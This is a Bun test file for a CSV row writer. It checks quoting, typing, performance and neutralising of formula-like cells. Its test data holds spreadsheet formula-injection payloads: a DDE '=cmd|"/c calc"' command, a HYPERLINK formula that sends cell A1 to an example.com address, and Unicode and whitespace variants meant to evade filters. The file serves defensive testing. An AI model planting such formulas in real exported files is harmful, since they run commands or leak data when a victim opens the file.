import { describe, expect, test } from "bun:test";
import { csvRow, unfinishedRow } from "./csv.ts";

/** The cells of a row, as RFC 4180 reads them. */
const cellsOf = (row: string): string[] =>
  [...row.slice(0, -2).matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)].map(
    ([, quoted, plain = ""]) => quoted?.replaceAll('""', '"') ?? plain,
  );

describe("a row", () => {
  test("values of each type: numbers stay numbers, null is empty, lists and objects are JSON", () => {
    expect(csvRow(["ses_1", 0, 9007199254740991, true, null, undefined, "", ["a", "b"], { user_id: "-5" }])).toBe(
      'ses_1,0,9007199254740991,true,,,,"[""a"",""b""]","{""user_id"":""-5""}"\r\n',
    );
  });

  test.each(["a,b", 'say "x"', "two\r\nlines", "é😀\u2028", "'", "a=b", "1-2", "a;b"])(
    "a text %j: unchanged",
    (text) => {
      expect(cellsOf(csvRow([text, "next"]))).toEqual([text, "next"]);
    },
  );

  test.each([
    ["=1+1", "'=1+1"],
    ["+1", "'+1"],
    ["-1", "'-1"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\t=1", "'\t'=1"],
    ["\rx", "'\rx"],
    ["\nx", "'\nx"],
    ["  =1", "'  =1"],
    ["\uff1d1", "'\uff1d1"],
    ['=HYPERLINK("https://example.com?"&A1,"x")', `'=HYPERLINK("https://example.com?"&A1,"x")`],
    ['=cmd|"/c calc"!A1', `'=cmd|"/c calc"!A1`],
    ["a;=1", "a;'=1"],
    ["a; =1", "a; '=1"],
    ['a;"=1"', `a;"'=1"`],
    ['a;""=1', `a;""'=1`],
    ["a;\u200b=1", "a;\u200b'=1"],
    ["\ufeff\u200b=1", "'\ufeff\u200b=1"],
    ["a\r\n=1", "a\r\n'=1"],
    ["a\t@x", "a\t'@x"],
  ])("a text with the form of a formula, %j: written as text", (text, shown) => {
    expect(cellsOf(csvRow(["first", text]))).toEqual(["first", shown]);
  });

  test("a long text of white space and signs: in linear time", () => {
    for (const text of [
      "\t".repeat(200_000),
      ";-".repeat(100_000),
      ';"'.repeat(100_000),
      "\t".repeat(200_000).concat("="),
      " ".repeat(200_000),
    ]) {
      expect(csvRow([text]).length).toBeGreaterThan(200_000);
    }
  });
});

test("a file that ends before its list: the last row says so, and has the same number of cells", () => {
  const row = unfinishedRow(["id", "kind", "amount"], "WzEsImVudCJd");
  expect(cellsOf(row)).toEqual(["# NOT COMPLETE: more rows follow in the file with cursor=WzEsImVudCJd", "", ""]);
});
